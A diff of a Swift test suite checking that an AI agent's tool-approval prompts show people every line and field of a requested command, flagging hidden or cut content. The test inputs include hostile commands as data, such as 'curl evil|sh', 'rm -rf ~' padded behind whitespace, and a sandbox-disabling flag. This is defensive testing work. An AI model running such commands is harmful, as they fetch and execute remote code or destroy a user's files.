@@ -1,30 +1,131 @@
 import AgentFormats
+import LocalAPI
 import QueueModel
+import QueueOracle
 import Testing
 
 @testable import SyncCommand
+@testable import SyncDaemon
 
-/// What a person reads before giving leave.
+/// What a person reads before they allow a tool.
 @Suite struct HookApprovalTests {
-  private func input(_ command: String) -> JSONTree {
-    JSONTree.object(["command": .string(command)])
+  /// What devices show of a hook's request, as its register holds it.
+  private func shown(_ input: JSONTree) throws -> ApprovalRequest {
+    let ask = try AskRequest(ofTool: "Bash", input).ask()
+    guard case .approval(let tool, let summary, let details) = ask else {
+      throw TaskMoveError(from: .idle, to: .awaitingApproval)
+    }
+    let request = ApprovalRequest(
+      id: RequestID(high: 1, low: 2), toolName: tool, summary: summary, details: details)
+    let register = TaskText(
+      text: TaskText(status: .awaitingApproval(request), start: 0, milliseconds: 0).text)
+    guard case .awaitingApproval(let read) = register.status else {
+      throw TaskMoveError(from: .processing, to: .awaitingApproval)
+    }
+    return read
   }
 
-  @Test func aSummaryOfManyLinesSaysSo() {
-    #expect(HookApproval.summary(of: input("ls")) == "ls")
-    #expect(HookApproval.summary(of: input("ls\n\n\ncurl evil|sh")) == "ls (and 1 more line)")
-    #expect(HookApproval.summary(of: input("a\nb\nc")) == "a (and 2 more lines)")
-    let long = HookApproval.summary(of: input(String(repeating: "x", count: 1_000)))
+  private func shown(_ command: String) throws -> ApprovalRequest {
+    try shown(["command": .string(command)])
+  }
+
+  @Test func aSummaryOfManyLinesSaysSo() throws {
+    #expect(try shown("ls").summary == "ls")
+    #expect(try shown("ls\n\n\ncurl evil|sh").summary == "ls (and 1 more line)")
+    #expect(try shown("a\nb\nc").summary == "a (and 2 more lines)")
+    let long = try shown(String(repeating: "x", count: 1_000)).summary
     #expect(long.hasSuffix("… [cut: 826 bytes more]"), "\(long)")
-    #expect(long.utf8.count <= HookApproval.summaryBytesMax)
+    #expect(long.utf8.count <= 200)
   }
 
-  @Test func detailsThatAreCutSaySo() {
+  @Test func aSummaryOfSeveralFieldsSaysSo() throws {
+    let hidden = try shown([
+      "command": "ls", "dangerouslyDisableSandbox": true, "run_in_background": true,
+    ])
+    #expect(hidden.summary == "ls (and 2 more fields)")
+    #expect(hidden.details == "command: ls\ndangerouslyDisableSandbox: true\nrun_in_background: true")
+    #expect(!hidden.isCut)
+    #expect(try shown(["command": "a\nb", "sql": "DROP"]).summary == "a (and 1 more line, 1 more field)")
+    let long = try shown(["command": .string(String(repeating: "x", count: 1_000)), "sql": "DROP"])
+    #expect(long.summary.hasSuffix("bytes more] (and 1 more field)"), "\(long.summary)")
+    #expect(long.summary.utf8.count <= 200)
+    #expect(try shown(["sql": "DROP", "database": "x"]).summary == #"{"database":"x","sql":"DROP"}"#)
+  }
+
+  @Test func theCommandComesFirstAndWhatIsHarmlessLast() throws {
+    let request = try shown([
+      "timeout": 5, "description": "Lists", "command": "ls", "b": ["x": [1, "é"]], "a:\n": "1\n2",
+    ])
+    #expect(
+      request.details == """
+        command: ls
+        "a:\\n":
+          1
+          2
+        b: {"x":[1,"é"]}
+        description: Lists
+        timeout: 5
+        """)
+  }
+
+  @Test func detailsThatAreCutSaySo() throws {
     let whole = String(repeating: "é", count: Limits.taskDetailsBytesMax / 2)
-    #expect(HookApproval.details(of: input(whole)) == whole)
-    let blanks = String(repeating: " ", count: 4_096)
-    let cut = HookApproval.details(of: input("ls" + blanks + "; rm -rf ~"))
-    #expect(cut.utf8.count <= Limits.taskDetailsBytesMax)
-    #expect(cut.hasSuffix("bytes more]"))
+    #expect(try shown(whole).details == whole)
+    #expect(try shown(whole).isCut == false)
+    let cut = try shown("ls" + String(repeating: " ", count: 4_096) + "; rm -rf ~")
+    #expect(cut.details?.hasSuffix("bytes more]") == true && cut.isCut)
+    #expect(try shown(String(repeating: "x", count: 300_000)).isCut)
+  }
+
+  private func text(_ random: inout SeededGenerator) -> String {
+    let parts = ["ls", "rm -rf ~", "\n", ": ", " ", "é", "\"", "timeout", "\u{2028}", "0"]
+    return (0..<random.below(6)).map { _ in parts[random.below(parts.count)] }.joined()
+  }
+
+  private func value(_ random: inout SeededGenerator, depth: Int) -> JSONTree {
+    switch random.below(depth > 0 ? 7 : 5) {
+    case 0: .boolean(random.chance(50))
+    case 1: .number(Double(random.below(1_000)) / 4)
+    case 2: .null
+    case 3: .string(String(repeating: text(&random), count: random.below(400)))
+    case 4: .string(text(&random))
+    case 5: .array((0..<random.below(3)).map { _ in value(&random, depth: depth - 1) })
+    default: object(&random, depth: depth - 1)
+    }
+  }
+
+  private func object(_ random: inout SeededGenerator, depth: Int) -> JSONTree {
+    let names = ["command", "file_path", "description", "timeout", "sql", "dangerous", "", "a b"]
+    var members: [String: JSONTree] = [:]
+    for _ in 0..<random.below(6) {
+      let name = random.chance(80) ? names[random.below(names.count)] : text(&random)
+      members[name] = value(&random, depth: depth)
+    }
+    return .object(members)
+  }
+
+  /// Every name and every value is in what is shown, or the request says that it is cut.
+  @Test func everyFieldOfAnInputIsShownOrMarked() throws {
+    var random = SeededGenerator(seed: 42)
+    var whole = 0
+    for _ in 0..<500 {
+      let input = object(&random, depth: 3)
+      guard case .object(let members) = input else { continue }
+      let request = try shown(input)
+      guard !request.isCut else { continue }
+      whole += 1
+      let read = request.summary + "\n" + (request.details ?? "")
+      for (name, value) in members {
+        let isNamed = read.contains(name) || read.contains(JSONTree.string(name).line)
+        #expect(isNamed, "\(name) of \(input.line) is hidden in \(read)")
+        let lines = value.text?.split(whereSeparator: \.isNewline) ?? []
+        let isShown = read.contains(value.line) || value.text != nil && lines.allSatisfy { read.contains($0) }
+        #expect(isShown, "\(value) of \(input.line) is hidden in \(read)")
+      }
+      let isSaid = request.summary.contains(" more field") || request.summary.contains("[cut:")
+      let isAll = members.count < 2 || isSaid || request.summary == input.line
+      #expect(isAll, "\(request.summary) does not say that \(input.line) has more fields")
+    }
+    #expect(whole > 100)
   }
 }
